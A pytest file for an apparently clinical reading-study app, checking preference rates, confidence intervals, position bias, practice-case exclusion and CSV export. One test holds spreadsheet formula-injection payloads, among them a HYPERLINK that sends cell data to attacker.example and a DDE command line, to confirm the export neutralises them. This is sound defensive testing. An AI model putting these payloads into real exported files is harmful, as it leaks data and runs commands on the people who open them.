"""Unblinded results on a constructed set with known answers (the paper's 71% overall / 95% normal / 58% abnormal
equivalent-or-better, Fig. 4c), rates per case over submitted judgements with their CIs, position bias,
per-reader/per-pair tables, CSV."""

import csv

import pandas as pd
import pytest

from studyapp.db.comparisons import ComparisonAssignment
from studyapp.services import accounts, comparison_results, comparisons, judging

from .builders import candidate_text, make_study

N_NORMAL, N_ABNORMAL = 20, 38
# planned candidate outcome per case: normal 12 better + 7 equivalent + 1 worse (19/20 = 95%);
# abnormal 10 better + 12 equivalent + 16 worse (22/38 = 57.9%); overall 41/58 = 70.7%
PLAN = (["better"] * 12 + ["equivalent"] * 7 + ["worse"]
        + ["better"] * 10 + ["equivalent"] * 12 + ["worse"] * 16)


def _choice(pair, outcome):
    candidate_side = "A" if pair.text_a in CANDIDATES else "B"
    if outcome == "equivalent":
        return "equivalent"
    return candidate_side if outcome == "better" else {"A": "B", "B": "A"}[candidate_side]


CANDIDATES = {candidate_text(i) for i in range(N_NORMAL + N_ABNORMAL)}


@pytest.fixture()
def paper_set(db):
    with db.begin() as s:
        study, readers, coordinator = make_study(s, N_NORMAL, N_ABNORMAL, 1)
        cset = comparisons.create_comparison_set(s, study, "known answers", "reference", "draft:model",
                                                 "draft:model", seed=3)
        comparisons.assign_readers(s, cset)
        reader = readers[0]
        case_index = {c.id: int(c.case_key[1:]) for c in study.cases}
        for pair in judging.blinded_pairs(s, reader, cset.id):
            judging.save_judgement(s, reader, pair.pair_id, _choice(pair, PLAN[case_index[pair.case_id]]))
        judging.submit_comparison_set(s, reader, cset.id)
        return db, cset.id, coordinator.username


def test_known_preference_rates(paper_set):
    db, set_id, coordinator = paper_set
    with db() as s:
        results = comparison_results.comparison_results(s, accounts.get_user(s, coordinator), set_id)
    pref = results.preference
    assert results.candidate_source == "draft:model"
    assert pref.loc["overall", ["n_judgements", "better", "equivalent", "worse"]].tolist() == [58, 22, 19, 17]
    assert pref.loc["normal", ["n_judgements", "better", "equivalent", "worse"]].tolist() == [20, 12, 7, 1]
    assert pref.loc["abnormal", ["n_judgements", "better", "equivalent", "worse"]].tolist() == [38, 10, 12, 16]
    # one reader per pair: per case equals per judgement, and the intervals are for that reader (readers fixed)
    assert pref["equivalent_or_better"].tolist() == pytest.approx(pref["per_judgement_equivalent_or_better"].tolist())
    assert set(pref["readers"]) == {"fixed"} and results.left_out == []
    assert pref.loc["overall", "equivalent_or_better"] == pytest.approx(41 / 58)
    assert round(pref.loc["overall", "equivalent_or_better"], 2) == 0.71
    assert round(pref.loc["normal", "equivalent_or_better"], 2) == 0.95
    assert round(pref.loc["abnormal", "equivalent_or_better"], 2) == 0.58
    for group, paper_value in (("overall", 0.71), ("normal", 0.95), ("abnormal", 0.58)):
        low, high = pref.loc[group, ["ci_low", "ci_high"]]
        assert low < paper_value < high, (group, low, high)
        assert low < pref.loc[group, "equivalent_or_better"] < high
    # 58 independent cases: about +-t(57) * sqrt(p(1-p)/n) = +-0.12, the binomial interval's width
    low, high = pref.loc["overall", ["ci_low", "ci_high"]]
    assert 0.18 < high - low < 0.30


def test_rates_per_case_over_submitted_judgements(small):
    """Two readers per pair: a case counts once with the share of its judgements for the candidate; the third
    reader's judgements are left out (and said so) until the set is submitted."""
    db, ids = small
    with db.begin() as s:
        first, second, third = (accounts.get_user(s, name) for name in ids["readers"])
        for reader, outcome in ((first, "better"), (second, "worse"), (third, "better")):
            for pair in judging.blinded_pairs(s, reader, ids["set"]):
                judging.save_judgement(s, reader, pair.pair_id, _choice(pair, outcome))
        judging.submit_comparison_set(s, first, ids["set"])
        judging.submit_comparison_set(s, second, ids["set"])
    with db() as s:
        results = comparison_results.comparison_results(s, accounts.get_user(s, ids["coordinator"]), ids["set"])
    judged = results.judgements
    counted = judged[judged["reader"] != ids["readers"][2]]
    per_case = (counted["candidate_outcome"] != "worse").groupby(counted["case_key"]).mean()
    pref = results.preference
    assert pref.loc["overall", "n_judgements"] == len(counted) and pref.loc["overall", "n_readers"] == 2
    assert pref.loc["overall", "equivalent_or_better"] == pytest.approx(per_case.mean())
    assert pref.loc["overall", "per_judgement_equivalent_or_better"] == pytest.approx(
        (counted["candidate_outcome"] != "worse").mean())
    assert len(results.left_out) == 1 and results.left_out[0].startswith(f"reader {ids['readers'][2]}: ")


def test_tables_and_position_bias(paper_set):
    db, set_id, coordinator = paper_set
    with db() as s:
        results = comparison_results.comparison_results(s, accounts.get_user(s, coordinator), set_id)
    bias = results.position_bias
    judgements = results.judgements
    assert bias.n_a + bias.n_b + bias.n_equivalent == 58 and bias.n_equivalent == 19
    assert bias.n_a == (judgements.choice == "A").sum()
    assert bias.share_a == pytest.approx(bias.n_a / 39)
    assert 0 < bias.p_value <= 1
    reader_row = results.per_reader.iloc[0]
    assert (reader_row.n_assigned, reader_row.n_judged, reader_row.submitted) == (58, 58, True)
    assert reader_row.equivalent_or_better == pytest.approx(41 / 58)
    per_pair = results.per_pair.set_index("case_key")
    assert per_pair.loc["C000", ["prefer_source_2", "prefer_source_1", "equivalent"]].tolist() == [1, 0, 0]
    assert per_pair.loc["C019", ["prefer_source_2", "prefer_source_1", "equivalent"]].tolist() == [0, 1, 0]
    assert per_pair["n_judgements"].sum() == 58


def test_position_bias_detected(small):
    """A reader who always picks A shows share_a = 1 and a small binomial p-value."""
    db, ids = small
    with db.begin() as s:
        for username in ids["readers"]:
            reader = accounts.get_user(s, username)
            for pair in judging.blinded_pairs(s, reader, ids["set"]):
                judging.save_judgement(s, reader, pair.pair_id, "A")
    with db() as s:
        results = comparison_results.comparison_results(s, accounts.get_user(s, ids["coordinator"]), ids["set"])
    assert (results.position_bias.n_a, results.position_bias.share_a) == (12, 1.0)
    assert results.position_bias.p_value == pytest.approx(2 * 0.5 ** 12)
    assert results.per_reader.share_a.tolist() == [1.0, 1.0, 1.0]
    # balanced sides: 'always A' prefers each source about half the time
    assert 4 <= (results.judgements.preferred_source == "draft:model").sum() <= 8


def test_csv_export_with_passage_offsets(small, tmp_path):
    db, ids = small
    with db.begin() as s:
        reader = accounts.get_user(s, ids["readers"][0])
        pair = judging.blinded_pairs(s, reader, ids["set"])[0]
        judging.save_judgement(s, reader, pair.pair_id, "B")
        judging.add_comment(s, reader, pair.pair_id, 1, "wrong side", side="B", start=0, end=9)
        judging.add_comment(s, reader, pair.pair_id, 5, "fine overall")
    with db() as s:
        comparison_results.export_comparison_csv(s, accounts.get_user(s, ids["coordinator"]), ids["set"],
                                          tmp_path / "out.csv")
        a = s.query(ComparisonAssignment).filter_by(pair_id=pair.pair_id, reader_id=reader.id).one()
        assignment_a_source = comparisons.side_sources(a)
    frame = pd.read_csv(tmp_path / "out.csv", keep_default_na=False)
    assert list(frame.columns) == list(comparison_results.EXPORT_COLUMNS)
    judgement = frame[frame.record == "judgement"]
    assert len(judgement) == 1
    row = judgement.iloc[0]
    assert (row.choice, row.preferred_source, row.reader) == ("B", assignment_a_source[1], ids["readers"][0])
    comments = frame[frame.record == "comment"].sort_values("comment_id")
    assert comments[["comment_side", "start", "end", "score", "comment"]].values.tolist() == [
        ["B", "0", "9", "1", "wrong side"], ["", "", "", "5", "fine overall"]]
    assert comments.iloc[0].passage == pair.text_b[0:9]
    assert comments.iloc[0].comment_source == assignment_a_source[1]


def test_comparison_csv_neutralises_formula_comments_and_jsonl_keeps_them(small, tmp_path):
    db, ids = small
    hostile = ['=HYPERLINK("http://attacker.example/?x="&A1,"see")', "+cmd|' /C calc'!A0", "@SUM(1+1)"]
    with db.begin() as s:
        reader = accounts.get_user(s, ids["readers"][0])
        pair = judging.blinded_pairs(s, reader, ids["set"])[0]
        judging.save_judgement(s, reader, pair.pair_id, "A")
        for text in hostile:
            judging.add_comment(s, reader, pair.pair_id, 2, text)
    with db() as s:
        coordinator = accounts.get_user(s, ids["coordinator"])
        comparison_results.export_comparison_csv(s, coordinator, ids["set"], tmp_path / "out.csv")
        comparison_results.export_comparison_csv(s, coordinator, ids["set"], tmp_path / "out.jsonl")
    with open(tmp_path / "out.csv", newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert sorted(r["comment"] for r in rows if r["record"] == "comment") == sorted("'" + h for h in hostile)
    assert [c for r in rows for c in r.values() if c and c[0] in "=+-@\t\r"] == []
    records = pd.read_json(tmp_path / "out.jsonl", lines=True)
    assert sorted(records[records.record == "comment"].comment) == sorted(hostile)


def test_practice_judgements_never_count(db, tmp_path):
    """A set created with "include practice cases" (C000 normal and C005 abnormal are practice, judged 'worse' by
    every reader): its rates, reader shares and position bias equal those of the same judgements in a set without
    practice cases; the results say how many practice judgements were left out, and the export flags them."""
    outcomes = {"C001": "better", "C002": "equivalent", "C003": "worse", "C004": "better"}
    with db.begin() as s:
        study, readers, coordinator = make_study(s, 3, 3, 3)
        for case in study.cases:
            case.is_practice = case.case_key in ("C000", "C005")
        s.flush()
        sets = {name: comparisons.create_comparison_set(s, study, name, "reference", "draft:model", "draft:model",
                                                        seed=5, readers_per_pair=3, include_practice=include)
                for name, include in (("with practice", True), ("without practice", False))}
        keys = {c.id: c.case_key for c in study.cases}
        for cset in sets.values():
            comparisons.assign_readers(s, cset)
            for index, reader in enumerate(readers):
                for pair in judging.blinded_pairs(s, reader, cset.id):
                    judging.save_judgement(s, reader, pair.pair_id, _choice(pair, outcomes.get(keys[pair.case_id],
                                                                                                "worse")))
                if index < 2:  # the third reader has not submitted
                    judging.submit_comparison_set(s, reader, cset.id)
        ids = {name: cset.id for name, cset in sets.items()}
    with db() as s:
        user = accounts.get_user(s, coordinator.username)
        with_practice, without = (comparison_results.comparison_results(s, user, ids[name], seed=0)
                                  for name in ("with practice", "without practice"))
        comparison_results.export_comparison_csv(s, user, ids["with practice"], tmp_path / "out.csv")

    assert len(with_practice.judgements) == 18 and len(without.judgements) == 12
    pref = with_practice.preference
    # two submitted readers x C001..C004: better, equivalent, worse, better for each
    assert pref.loc["overall", ["n_cases", "n_judgements", "n_readers", "better", "equivalent", "worse"]].tolist() == [
        4, 8, 2, 4, 2, 2]
    assert pref.loc["overall", "equivalent_or_better"] == pytest.approx(3 / 4)
    assert pref.loc["normal", "equivalent_or_better"] == pytest.approx(1.0)  # C001, C002
    assert pref.loc["abnormal", "equivalent_or_better"] == pytest.approx(1 / 2)  # C003, C004
    counts = ["n_cases", "n_judgements", "n_readers", "better", "equivalent", "worse"]
    rates = ["equivalent_or_better", "per_judgement_equivalent_or_better"]
    pd.testing.assert_frame_equal(pref[counts], without.preference[counts])
    pd.testing.assert_frame_equal(pref[rates], without.preference[rates])

    assert with_practice.practice_left_out == 6 and without.practice_left_out == 0
    assert with_practice.left_out == ["practice case: 6 judgement(s) left out, never counted",
                                      "reader s1-reader2: 4 judgement(s) left out, the set is not submitted"]
    assert without.left_out == with_practice.left_out[1:]
    reader_columns = ["n_a", "n_b", "n_equivalent", "share_a", "equivalent_or_better"]
    pd.testing.assert_frame_equal(with_practice.per_reader[reader_columns], without.per_reader[reader_columns])
    assert with_practice.per_reader["equivalent_or_better"].tolist() == pytest.approx([0.75] * 3)
    assert with_practice.per_reader["n_judged"].tolist() == [6, 6, 6]
    assert with_practice.position_bias.n_a + with_practice.position_bias.n_b == 9  # 3 readers x C001, C003, C004
    assert with_practice.position_bias.n_equivalent == without.position_bias.n_equivalent == 3
    practice_pairs = with_practice.per_pair[with_practice.per_pair["practice"]]
    assert practice_pairs["case_key"].tolist() == ["C000", "C005"]
    assert practice_pairs["n_judgements"].tolist() == [3, 3]

    exported = pd.read_csv(tmp_path / "out.csv", keep_default_na=False)
    judged = exported[exported.record == "judgement"]
    assert len(judged) == 18
    assert sorted(judged.loc[judged.practice, "case_key"].unique()) == ["C000", "C005"]
    assert (~judged.practice).sum() == 12
